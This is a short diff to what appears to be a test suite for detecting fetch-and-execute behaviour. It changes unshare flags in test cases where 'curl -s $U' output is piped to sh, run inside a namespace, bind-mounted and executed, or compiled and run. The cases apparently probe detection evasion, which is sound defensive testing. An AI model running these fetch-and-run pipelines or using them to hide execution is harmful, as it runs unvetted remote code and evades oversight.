@@ -173,8 +173,8 @@ CASES = (
         'subprocess.run(["curl","-s",sys.argv[1]],stdout=s)\nsubprocess.run(["sh"],input=os.read(m,4096))\' $U',
         **CODE,
     ),
-    Case("in-a-process-namespace", "curl -s $U | unshare -Urpf sh", **CODE),
-    Case("mounted-elsewhere", "curl -s $U > s; touch t; unshare -Urm sh -c 'mount --bind s t && sh t'", **CODE),
+    Case("in-a-process-namespace", "curl -s $U | unshare -pf sh", **CODE),
+    Case("mounted-elsewhere", "curl -s $U > s; touch t; unshare -m sh -c 'mount --bind s t && sh t'", **CODE),
     Case(
         "compiled",
         'curl -s $U | sed \'s/.*/int puts(const char *); int main(void){puts("PRO" "VEN");}/\' | gcc -x c - -o a; ./a',
